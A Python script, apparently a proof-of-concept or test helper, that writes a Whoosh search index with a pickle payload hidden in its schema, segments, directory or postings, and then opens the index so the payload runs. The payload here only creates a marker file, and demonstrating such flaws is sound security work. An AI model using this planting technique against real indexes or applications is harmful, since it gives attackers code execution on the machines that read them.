"""Makes an index of stock Whoosh that runs code when it is read: KIND DIRECTORY MARK.

The code makes the file MARK, which does no harm and shows that the attack is one. KIND is the part of the
index that the code lies in: ``schema``, ``segments``, ``directory`` or ``postings``.
"""

from __future__ import annotations

import pickle
import sys
import types
from contextlib import suppress
from typing import Any

import whoosh.codec.whoosh3
import whoosh.fields
import whoosh.index
import whoosh.query
from whoosh.filedb.structfile import StructFile


class Planted:
    """Makes a file when it is unpickled."""

    def __init__(self, mark: str) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[object, ...]:
        return open, (self.mark, "w")


def plant(kind: str, directory: str, mark: str) -> None:
    """Write the index."""
    attack = pickle.dumps(Planted(mark), 2)
    pickled = StructFile.write_pickle
    wanted = {"directory": dict, "segments": list}.get(kind)

    def write_pickle(file: Any, value: object, *rest: object) -> None:
        if wanted is not None and isinstance(value, wanted) and value:
            file.write(attack)
        else:
            pickled(file, value, *rest)

    StructFile.write_pickle = write_pickle
    if kind == "postings":
        whoosh.codec.whoosh3.dumps = lambda *_: attack
    if kind == "schema":
        whoosh.index.pickle = types.SimpleNamespace(**{**vars(pickle), "dumps": lambda *_: attack})
    index = whoosh.index.create_in(directory, whoosh.fields.Schema(body=whoosh.fields.TEXT))
    writer = index.writer()
    for number in range(300):
        writer.add_document(body=f"crane harbour {number}")
    writer.commit()


def read(directory: str) -> None:
    """Read the index as Whoosh does; what it raises does not matter."""
    with suppress(Exception), whoosh.index.open_dir(directory).searcher() as searcher:
        len(searcher.search(whoosh.query.Term("body", "crane")))


if __name__ == "__main__":
    if sys.argv[1] == "read":
        read(sys.argv[2])
    else:
        with suppress(Exception):  # what is planted may get into the way of finishing
            plant(*sys.argv[1:4])
